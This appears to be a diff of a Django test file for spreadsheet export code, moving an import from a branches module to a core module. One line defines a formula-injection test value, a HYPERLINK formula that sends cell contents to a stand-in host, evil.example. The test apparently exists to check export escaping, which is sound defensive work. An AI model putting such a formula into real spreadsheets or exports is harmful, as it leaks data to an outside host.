@@ -9,7 +9,7 @@ from django.urls import reverse
 from django.utils import translation
 from openpyxl import load_workbook
 
-from branches.spreadsheets import OutColumn, csv_cell, write_csv, write_xlsx
+from core.spreadsheets import OutColumn, csv_cell, write_csv, write_xlsx
 from tests.factories import MassOrganizationFactory, MemberFactory, ProspectFactory
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
